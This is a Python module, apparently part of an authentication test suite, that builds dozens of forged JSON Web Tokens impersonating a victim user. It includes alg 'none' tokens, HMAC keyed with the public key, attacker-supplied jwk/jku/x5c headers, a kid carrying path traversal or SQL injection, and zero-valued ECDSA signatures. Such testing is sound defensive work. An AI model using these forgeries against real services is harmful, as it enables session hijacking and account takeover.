"""Every way of making a token without the instance's private key.

The forger has what anybody has: the instance's published key, a session token of his own, a key pair and a web server.
Each forgery claims to be the session of somebody else. The classes follow the attacks that RFC 8725 §2 warns of and
those that JWT libraries have had advisories for.
"""

from __future__ import annotations

import hashlib
import hmac
import json
from base64 import b64decode, b64encode, urlsafe_b64decode
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any, Final

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec, ed25519
from cryptography.hazmat.primitives.asymmetric.padding import MGF1, PSS, PKCS1v15
from cryptography.hazmat.primitives.hashes import SHA256, SHA384, SHA512
from cryptography.hazmat.primitives.serialization import Encoding

from alwrity_checks.auth.mint import ABSENT, Instance, base64url

__all__ = ["VICTIM", "Forger", "forgeries"]

VICTIM: Final = "user_2someoneElse000000000000001"
"""The user whom a forgery claims to be."""
_SHA256_DIGEST_INFO: Final = bytes.fromhex("3031300d060960864801650304020105000420")
"""RFC 8017 §9.2, note 1."""


@dataclass(frozen=True, slots=True)
class Forger:
    """What a forger has at hand."""

    jwk: Mapping[str, Any]
    """The instance's key as it is published."""
    pem: str
    """The same key in the other usual form."""
    own_token: str
    """A genuine token of the forger's own session."""
    own: Instance
    """The forger's own key pair."""
    server: str
    """The forger's web server, which serves his key."""
    issuer: str
    """The `iss` that the backend under attack expects: it follows from the publishable key, which is public."""
    origin: str

    def header(self, **changes: object) -> dict[str, Any]:
        """Return a header that names the instance's key, with `changes`."""
        return self.own.header(**{"kid": self.jwk["kid"], **changes})

    def claims(self) -> dict[str, Any]:
        """Return what the forger wants to be believed."""
        return self.own.claims(iss=self.issuer, azp=self.origin, sub=VICTIM)


def forgeries(forger: Forger) -> dict[str, str]:
    """Return the forged tokens by what was done to make them."""
    made = dict(_without_signature(forger))
    for table in (_keyed_with_the_public_key, _with_own_key, _with_a_key_brought_along, _by_kid, _signature, _form):
        made.update(table(forger))
    return made


def _json(value: object) -> str:
    return base64url(json.dumps(value, separators=(",", ":")).encode())


def _input(header: object, claims: object) -> str:
    return f"{_json(header)}.{_json(claims)}"


def _hmac(signing_input: str, secret: bytes, digest: str = "sha256") -> str:
    return f"{signing_input}.{base64url(hmac.digest(secret, signing_input.encode(), digest))}"


def _without_signature(forger: Forger) -> Iterator[tuple[str, str]]:
    claims = forger.claims()
    algorithms: tuple[object, ...] = ("none", "None", "NONE", "nOnE", "none ", "", None, ["RS256"], ["none"], 0, ABSENT)
    for algorithm in algorithms:
        unsigned = _input(forger.header(alg=algorithm), claims)
        named = "no alg" if algorithm is ABSENT else f"alg {json.dumps(algorithm)}"
        yield f"{named}, empty signature", f"{unsigned}."
        yield f"{named}, one byte for a signature", f"{unsigned}.AA"
    for first, second in (("RS256", "none"), ("none", "RS256")):
        head = f'{{"alg":"{first}","alg":"{second}","kid":"{forger.jwk["kid"]}","typ":"JWT"}}'
        yield f"alg twice, {first} then {second}", f"{base64url(head.encode())}.{_json(claims)}."


def _keyed_with_the_public_key(forger: Forger) -> Iterator[tuple[str, str]]:
    """Key confusion: the public key, which is no secret, used as a shared one (CVE-2016-5431 and its many kin)."""
    pem = forger.pem
    body = "".join(pem.splitlines()[1:-1])
    modulus = urlsafe_b64decode(forger.jwk["n"] + "=" * (-len(forger.jwk["n"]) % 4))
    secrets = {
        "PEM": pem.encode(),
        "PEM without the last newline": pem.strip().encode(),
        "PEM with CRLF": pem.replace("\n", "\r\n").encode(),
        "PEM body": body.encode(),
        "DER": b64decode(body),
        "JWK": json.dumps(forger.jwk).encode(),
        "JWK without spaces": json.dumps(forger.jwk, separators=(",", ":")).encode(),
        "JWKS": json.dumps({"keys": [forger.jwk]}).encode(),
        "modulus": modulus,
        "modulus as text": forger.jwk["n"].encode(),
        "key id": forger.jwk["kid"].encode(),
        "empty key": b"",
    }
    for name, secret in secrets.items():
        yield f"HS256 keyed with the {name}", _hmac(_input(forger.header(alg="HS256"), forger.claims()), secret)
    for algorithm, digest in (("HS384", "sha384"), ("HS512", "sha512"), ("hs256", "sha256"), ("RS256", "sha256")):
        token = _hmac(_input(forger.header(alg=algorithm), forger.claims()), pem.encode(), digest)
        yield f"{algorithm} header, HMAC keyed with the PEM", token


def _with_own_key(forger: Forger) -> Iterator[tuple[str, str]]:
    claims, key = forger.claims(), forger.own.private_key
    yield "RS256 with a key of one's own", forger.own.sign(forger.header(), claims)
    for algorithm, padding, digest in (
        ("RS384", PKCS1v15(), SHA384()),
        ("RS512", PKCS1v15(), SHA512()),
        ("PS256", PSS(MGF1(SHA256()), 32), SHA256()),
    ):
        signing_input = _input(forger.header(alg=algorithm), claims)
        signature = key.sign(signing_input.encode(), padding, digest)
        yield f"{algorithm} with a key of one's own", f"{signing_input}.{base64url(signature)}"
    signing_input = _input(forger.header(alg="ES256"), claims)
    signature = ec.generate_private_key(ec.SECP256R1()).sign(signing_input.encode(), ec.ECDSA(SHA256()))
    yield "ES256 with a key of one's own", f"{signing_input}.{base64url(signature)}"
    yield "ES256 with the signature (0, 0)", f"{signing_input}.{base64url(bytes(64))}"  # CVE-2022-21449
    signing_input = _input(forger.header(alg="EdDSA"), claims)
    signature = ed25519.Ed25519PrivateKey.generate().sign(signing_input.encode())
    yield "EdDSA with a key of one's own", f"{signing_input}.{base64url(signature)}"


def _with_a_key_brought_along(forger: Forger) -> Iterator[tuple[str, str]]:
    own = forger.own
    brought: dict[str, object] = {
        "jwk": own.jwk() | {"kid": forger.jwk["kid"]},
        "jku": f"{forger.server}/jku",
        "x5u": f"{forger.server}/x5u",
        "x5c": [_certificate(own)],
    }
    for name, value in brought.items():
        yield f"{name} in the header", own.sign(forger.header(**{name: value}), forger.claims())
        changes = {name: value, "kid": own.kid}
        yield f"{name} in the header, kid of one's own", own.sign(forger.header(**changes), forger.claims())
    critical = forger.header(crit=["jwk"], jwk=own.jwk())
    yield "jwk in the header, declared critical", own.sign(critical, forger.claims())


def _certificate(own: Instance) -> str:
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "attacker.example")])
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder(name, name, own.private_key.public_key(), x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=1))
        .sign(own.private_key, SHA256())
    )
    return b64encode(certificate.public_bytes(Encoding.DER)).decode()


def _by_kid(forger: Forger) -> Iterator[tuple[str, str]]:
    genuine: str = forger.jwk["kid"]
    kids: dict[str, object] = {
        "of one's own": forger.own.kid,
        "unknown": "ins_2unknownInstance000000000001",
        "absent": ABSENT,
        "null": None,
        "a list": [genuine],
        "an object": {"kid": genuine},
        "a number": 0,
        "true": True,
        "empty": "",
        "a URL": f"{forger.server}/kid",
        "very long": "k" * 4000,
        "in capitals": genuine.upper(),
        "with a space": f"{genuine} ",
        "with a NUL": f"{genuine}\0",
    }
    for name, kid in kids.items():
        yield f"kid {name}", forger.own.sign(forger.header(kid=kid), forger.claims())
    # Classics: the kid leads to a file or a database row whose content the forger knows.
    for name, kid, secret in (
        ("a path to /dev/null", "../../../../../../dev/null", b""),
        ("an SQL injection", "x' UNION SELECT 'known' --", b"known"),
    ):
        yield f"kid {name}", _hmac(_input(forger.header(alg="HS256", kid=kid), forger.claims()), secret)


def _signature(forger: Forger) -> Iterator[tuple[str, str]]:
    """Signatures that are not: some over the victim's claims, some near-misses of a genuine one."""
    signing_input = _input(forger.header(), forger.claims())
    head, body, seal = forger.own_token.split(".")
    genuine = urlsafe_b64decode(seal + "=" * (-len(seal) % 4))
    size = len(genuine)
    digest = _SHA256_DIGEST_INFO + hashlib.sha256(signing_input.encode()).digest()
    padded = b"\x00\x01" + b"\xff" * (size - len(digest) - 3) + b"\x00" + digest
    for name, signature in {
        "empty": b"",
        "all zeros": bytes(size),
        "the number 1": bytes(size - 1) + b"\x01",
        "all ones": b"\xff" * size,
        "the padded digest itself": padded,
        "the bare digest": hashlib.sha256(signing_input.encode()).digest(),
    }.items():
        yield f"signature {name}", f"{signing_input}.{base64url(signature)}"
    for name, signature in {
        "with its first bit flipped": bytes((genuine[0] ^ 0x80,)) + genuine[1:],
        "with its last bit flipped": genuine[:-1] + bytes((genuine[-1] ^ 1,)),
        "without its last byte": genuine[:-1],
        "with a byte more": genuine + b"\x00",
        "backwards": genuine[::-1],
    }.items():
        yield f"genuine signature {name}", f"{head}.{body}.{base64url(signature)}"
    yield "genuine signature under the victim's claims", f"{head}.{_json(forger.claims())}.{seal}"
    yield "genuine token with another header", f"{_json(forger.header(alg='none'))}.{body}.{seal}"


def _form(forger: Forger) -> Iterator[tuple[str, str]]:
    own, claims = forger.own, forger.claims()
    signing_input = _input(forger.header(), claims)
    head, body = signing_input.split(".")
    yield "two parts", signing_input
    yield "four parts", f"{forger.own_token}.{body}"
    yield "four parts, the victim's claims first", f"{head}.{body}.{forger.own_token.rpartition('.')[2]}.AA"
    yield "five parts (JWE)", f"{_json({'alg': 'dir', 'enc': 'A256GCM'})}..AAAA.{body}.AAAA"
    own_head, own_body, own_seal = forger.own_token.split(".")
    yield (
        "JSON serialisation with two payloads",
        json.dumps({"payload": body, "protected": own_head, "signature": own_seal, "payloads": [own_body]}),
    )
    unusual: dict[str, dict[str, object]] = {
        "crit with an unknown extension": {"crit": ["exp2"], "exp2": 1},
        "an empty crit": {"crit": []},
        "b64 false": {"b64": False},
        "b64 false, declared critical": {"b64": False, "crit": ["b64"]},
        "zip": {"zip": "DEF"},
        "cty JWT": {"cty": "JWT"},
        "typ JWE": {"typ": "JWE"},
        "typ at+jwt": {"typ": "at+jwt"},
    }
    for name, changes in unusual.items():
        yield name, own.sign(forger.header(**changes), claims)
    detached = own.sign(forger.header(b64=False, crit=["b64"]), claims)
    yield "a detached payload", f"{detached.split('.')[0]}..{detached.split('.')[2]}"
    yield (
        "padded with =",
        ".".join(part + "=" * (-len(part) % 4) for part in own.sign(forger.header(), claims).split(".")),
    )
